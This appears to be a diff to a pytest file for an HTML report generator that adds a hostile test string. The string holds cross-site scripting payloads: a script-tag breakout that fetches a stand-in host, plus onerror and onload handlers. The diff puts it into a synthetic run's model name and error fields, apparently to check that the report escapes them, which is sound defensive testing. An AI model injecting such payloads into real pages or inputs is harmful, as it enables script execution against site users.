@@ -29,21 +29,30 @@ LAYOUT = """(() => {
 FINDINGS = """axe.run(document, {{ resultTypes: ["violations"], {only} }}).then((told) => told.violations.map((rule) => ({{
   rule: rule.id, impact: rule.impact, where: rule.nodes.slice(0, 5).map((node) => node.html.slice(0, 300)),
 }})))"""
+EVIL = """</script><script>fetch("http://evil.invalid/")</script><img src=x onerror="console.error('ran')">'\"><svg onload=alert(1)>"""
 CONTRAST = 'runOnly: ["color-contrast"]'  # all that a change of colours can change
 
 
 @pytest.fixture(scope="module")
 def pages(synthetic, everything, tmp_path_factory):
-    """Reports by the kind of run: `hostile` has names and bodies of great length."""
+    """Reports by the kind of run: `hostile` has names and bodies of great length, and scripts in all that a target wrote."""
     from tailgauge_analysis.report import make
 
     out = tmp_path_factory.mktemp("pages")
     ended = {**dict.fromkeys(range(300, 320), "rate_limited"), 350: "client_drop"}
-    error = {"status": 429, "error_type": "rate_limit_error", "error_body": "x" * 2000}
+    error = {"status": 429, "error_type": EVIL[:100], "error_body": EVIL + "x" * 2000}
     slo = {"ttft_p99": {"metric": "ttft_sched", "quantile": 0.99, "max_ms": 1000.0}}
     stood = {"loop_lag_max_ns": [0, 0, 0, 80_000_000, 0], "chunk_intervals": range(26)}
     run = synthetic.write(
-        out / "run", n=600, ended=ended, error=error, slo=slo, cpu_share=0.95, run_id="R" * 100, health=stood
+        out / "run",
+        model=EVIL,
+        n=600,
+        ended=ended,
+        error=error,
+        slo=slo,
+        cpu_share=0.95,
+        run_id="R" * 100,
+        health=stood,
     )
     return {"hostile": make([run], out).html, "everything": everything}
 
